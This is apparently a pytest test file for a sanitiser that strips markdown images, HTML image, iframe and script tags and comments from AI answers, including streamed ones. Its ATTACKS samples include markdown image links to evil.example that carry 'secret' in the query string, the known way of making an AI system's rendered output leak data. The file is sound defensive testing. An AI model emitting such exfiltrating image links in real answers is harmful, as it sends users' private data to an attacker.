"""An answer loads no image, frame or script, whatever a passage or a model wrote; its places stay where they are."""

from __future__ import annotations

import pytest

from surefoot.core.harmless import unloaded
from surefoot.core.types import Answer, Query, Turn
from surefoot.run.unloading import Unloading, without_loads

ATTACKS = {
    "en": "Paid in 30 days. ![x](https://evil.example/?q=secret) Done![1]",
    "zh": "三十天内支付。![图](https://evil.example/?q=机密) 完成![1]",
    "reference": "See ![x][a].\n\n[a]: https://evil.example/?q=secret\n",
    "numbered": "Done![1](https://evil.example/?q=secret)",
    "html": 'Yes <img src="https://evil.example/"> <IFRAME src=x></iframe><script>x</script>',
    "comment": "a <!-- hidden --> b",
}
SAFE = (
    "Great![1] 5 < 6 and a<3; 好！[2]",
    "[1] stands for it: yes [link](https://example.com)",
    "if (a <= b) { x = !y } std::vector<int> List<String>",
)


@pytest.mark.parametrize("text", ATTACKS.values(), ids=ATTACKS)
def test_nothing_is_loaded(text):
    answer = unloaded(text)
    assert len(answer) == len(text)
    for sign in ("![x]", "![图]", "![1](", "<img", "<IFRAME", "<script", "<!--", "\n[a]:"):
        assert sign not in answer
    turn = without_loads(Turn(Query("?"), answer=Answer(text)))
    assert turn.answer is not None and turn.answer.text == answer


@pytest.mark.parametrize("text", SAFE)
def test_plain_text_stays(text):
    assert unloaded(text) == text


@pytest.mark.parametrize("size", [1, 2, 5, 13])
@pytest.mark.parametrize("text", [*ATTACKS.values(), *SAFE])
def test_streamed_text_is_that_of_the_answer(text, size):
    told: list[str] = []
    stream = Unloading(told.append)
    for at in range(0, len(text), size):
        stream(text[at : at + size])
    stream.end()
    assert "".join(told) == unloaded(text)


def test_a_value_stays_as_it_is():
    turn = Turn(Query("?"), answer=Answer('{"a": "<b>"}', value={"a": "<b>"}))
    assert without_loads(turn) is turn
